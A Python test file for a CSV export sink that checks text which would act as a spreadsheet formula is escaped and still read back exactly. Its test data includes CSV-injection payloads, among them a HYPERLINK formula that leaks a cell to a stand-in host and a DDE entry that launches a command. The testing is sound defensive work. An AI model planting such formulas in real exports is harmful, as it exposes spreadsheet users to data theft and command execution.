"""Labels as CSV that a spreadsheet may open: texts that would be formulas there are escaped, and read back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mmstream_io.csv_sink import CsvSink

from mmstream.plugins import components
from mmstream.testing import SinkContract

SCHEMA = {"id": "string", "=price": "number", "tags": "strings", "caption": "string"}
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"open")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
    "'",
]


class TestCsvSinkThatEscapes(SinkContract):
    name = "csv"
    parameters = {"formulas": "escape"}


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_as_a_formula(text):
    sink = CsvSink(formulas="escape")
    rows = [{"id": text, "=price": -1.5, "tags": [text], "caption": text}]
    data = sink.dumps(rows, SCHEMA)
    names, row = cells(data)
    assert names == ["id", "'=price", "tags", "caption"]
    assert row[0] == row[3] == f"'{text}"
    assert row[1] == "-1.5"
    assert row[2].startswith("[")
    assert sink.loads(data, SCHEMA) == rows


def test_by_default_texts_are_written_as_they_are():
    data = CsvSink().dumps([{"id": "=1", "caption": "'x"}], SCHEMA)
    assert cells(data)[1] == ["=1", "", "", "'x"]
    assert CsvSink().loads(data, SCHEMA)[0]["caption"] == "'x"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("'=+-@\t\r\n\",[")), max_size=5))
def test_all_texts_come_back(texts):
    sink = CsvSink(formulas="escape")
    rows = [{"id": text, "=price": None, "tags": [text, "'="], "caption": text} for text in texts]
    assert sink.loads(sink.dumps(rows, SCHEMA), SCHEMA) == rows
    assert sink.loads(sink.dumps(rows, SCHEMA), {"id": "string"}) == [
        {**row, "tags": cells(sink.dumps([row], SCHEMA))[1][2]} for row in rows
    ]


def test_what_formulas_may_be_is_said():
    problems = components.check("sink", "csv", {"formulas": "drop"})
    assert problems == [("formulas", "must be 'keep' or 'escape'; found 'drop'")]
